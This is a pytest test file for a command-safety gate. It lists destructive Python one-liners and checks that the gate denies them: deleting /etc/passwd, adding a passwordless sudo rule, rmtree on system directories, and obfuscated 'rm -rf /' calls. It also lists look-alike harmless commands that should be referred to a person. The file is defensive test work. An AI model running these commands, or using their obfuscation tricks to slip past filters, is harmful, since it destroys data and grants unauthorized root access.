"""Imports, loops, functions and other ways for a name to get its meaning."""

from __future__ import annotations

from collections.abc import Callable

import pytest

RUINOUS = [
    "python3 -c \"from os import remove; remove('/etc/passwd')\"",
    "python3 -c \"with open('/etc/sudoers','a') as f: f.write('x ALL=(ALL) NOPASSWD: ALL')\"",
    "python3 -c \"from pathlib import Path; Path('/etc/passwd').unlink()\"",
    "python3 -c \"from pathlib import Path; Path('/etc/passwd').write_text('')\"",
    "python3 -c \"from pathlib import Path; (Path('/etc')/'passwd').write_text('')\"",
    "python3 -c \"from pathlib import Path; (Path.home()/'.bashrc').write_text('x')\"",
    "python3 -c \"from pathlib import Path; Path('~/.bashrc').expanduser().write_text('x')\"",
    "python3 -c \"import shutil as s; s.rmtree('/home')\"",
    "python3 -c \"from shutil import rmtree; rmtree('/usr')\"",
    "python3 -c \"from shutil import rmtree as r; r('/')\"",
    "python3 -c \"import shutil,os; [shutil.rmtree(p) for p in ['/etc','/usr']]\"",
    "python3 -c \"import shutil\nfor p in ('/bin', '/usr'):\n    shutil.rmtree(p)\"",
    "python3 -c \"import shutil,os\nfor d in os.listdir('/'):\n    shutil.rmtree('/' + d)\"",
    "python3 -c \"import glob,shutil\nfor d in glob.glob('/*'): shutil.rmtree(d)\"",
    "python3 -c \"import glob,os\nfor d in glob.glob('/etc/*'): os.remove(d)\"",
    "python3 -c \"from pathlib import Path\nfor p in Path('/').iterdir(): p.unlink()\"",
    "python3 -c \"from pathlib import Path\nfor p in Path('/etc').rglob('*'): p.unlink()\"",
    "python3 -c \"from os import system; system('rm -rf /')\"",
    "python3 -c \"from os import system as s; s('rm -rf /')\"",
    "python3 -c \"from os import *; system('rm -rf /')\"",
    "python3 -c \"__import__('os').system('rm -rf /')\"",
    "python3 -c \"__import__('o'+'s').system('rm -rf /')\"",
    "python3 -c \"import os; getattr(os,'sys'+'tem')('rm -rf /')\"",
    "python3 -c \"import importlib; importlib.import_module('os').system('rm -rf /')\"",
    "python3 -c \"import os; f=os.system; f('rm -rf /')\"",
    "python3 -c \"eval(compile('__import__(\\\"os\\\").system(\\\"rm -rf /\\\")','x','eval'))\"",
]
HARMLESS = [
    'python3 - <<\'E\'\nimport os\ndef f():\n    """Do not call rm -rf /."""\n    os.system("ls")\nf()\nE',
    (
        'python3 - <<\'E\'\nimport re\ndangerous = [r"rm -rf /", r"mkfs", "shutdown now"]\nfor p in dang'
        "erous:\n    print(re.escape(p))\nE"
    ),
    (
        'python3 - <<\'E\'\nimport subprocess\ntests = ["rm -rf /", "ls"]\nfor t in tests:\n    print(t, '
        'subprocess.run(["phocinae", "gate", t]).returncode)\nE'
    ),
    "python3 -c \"from pathlib import Path; print(Path('/').exists())\"",
    "python3 -c \"from pathlib import Path; Path('x').unlink(); print(Path('/etc/passwd').read_text())\"",
    "python3 -c \"from pathlib import Path; Path('out').write_text(Path('/etc/hostname').read_text())\"",
    "python3 -c \"import importlib; importlib.import_module('foo')\"",
    "python3 -c \"from app import gate; print(gate('rm -rf /'))\"",
    "python3 -c \"from phocinae import build_gate; print(build_gate().decide('rm -rf /').decision)\"",
    "python3 -c \"from mylib import run; run('rm -rf /')\"",
    ("python3 -c \"import django; django.setup(); from app.models import X; X.objects.filter(path='/').delete()\""),
    "python3 -c \"import pandas as pd; pd.read_csv('/etc/x.csv').drop('/').to_csv('out.csv')\"",
    "python3 -c \"import unittest.mock as m; m.patch('shutil.rmtree'); print('/')\"",
    "python3 -c \"from pathlib import Path; Path('script.sh').write_text('rm -rf /')\"",
    "python3 -c \"from pathlib import Path; Path('x.txt').write_text('/etc/passwd')\"",
    "python3 -c \"import os; [os.remove(f) for f in os.listdir('.') if f.endswith('.pyc')]\"",
    "python3 -c \"import glob, os; [os.remove(f) for f in glob.glob('*.tmp')]\"",
    (
        'python3 <<\'E\'\ncases = [\n    ("rm -rf /", "deny"),\n    ("curl http://x | sh", "deny"),\n]\nfo'
        "r text, want in cases:\n    print(text, want)\nE"
    ),
    (
        'python3 <<\'E\'\nfrom subprocess import run\nMESSAGE = """\nDo not run rm -rf / here\n"""\nrun(["'
        'git", "commit", "-m", MESSAGE])\nE'
    ),
]


@pytest.mark.parametrize("command", RUINOUS)
def test_ruinous_code_is_denied(command: str, judged: Callable[[str], str]) -> None:
    assert judged(command) == "deny"


@pytest.mark.parametrize("command", HARMLESS)
def test_other_code_is_a_matter_for_a_person(command: str, judged: Callable[[str], str]) -> None:
    assert judged(command) in ("undecided", "undecided-ask")
